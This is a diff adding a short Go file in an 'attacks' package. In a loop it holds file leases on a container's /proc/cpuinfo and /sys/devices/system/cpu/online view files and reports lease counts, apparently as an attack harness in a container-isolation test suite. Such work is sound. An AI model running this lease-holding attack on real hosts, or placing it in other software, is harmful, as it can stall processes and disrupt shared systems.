@@ -1,0 +1,51 @@
+package attacks
+
+import (
+	"fmt"
+	"os/signal"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// viewFiles are the files of the container's view.
+var viewFiles = []string{"/sys/devices/system/cpu/online", "/proc/cpuinfo"}
+
+// holdLeases asks for leases on the files of the view again and again, since root in the container owns them. It writes the number
+// of the leases when it changes, and "ready" after the first try.
+func holdLeases(kind string) {
+	signal.Ignore(unix.SIGIO)
+	lease := map[string]int{"read": unix.F_RDLCK, "write": unix.F_WRLCK}[kind]
+	var fds []int
+	for _, name := range viewFiles {
+		fd, err := unix.Open(name, unix.O_RDONLY|unix.O_CLOEXEC, 0)
+		check(err)
+		fds = append(fds, fd)
+	}
+	for last := -1; ; time.Sleep(5 * time.Millisecond) {
+		held := 0
+		for _, fd := range fds {
+			if takeLease(fd, lease) {
+				held++
+			}
+		}
+		if held == last {
+			continue
+		}
+		if last == -1 {
+			fmt.Println("ready")
+		}
+		last = held
+		fmt.Println("leases", held)
+	}
+}
+
+// takeLease reports whether a descriptor has a lease that the kernel is not about to break, or gets one now.
+func takeLease(fd, lease int) bool {
+	if is, _ := unix.FcntlInt(uintptr(fd), unix.F_GETLEASE, 0); is == lease {
+		return true
+	}
+	unix.FcntlInt(uintptr(fd), unix.F_SETLEASE, unix.F_UNLCK)
+	_, err := unix.FcntlInt(uintptr(fd), unix.F_SETLEASE, lease)
+	return err == nil
+}
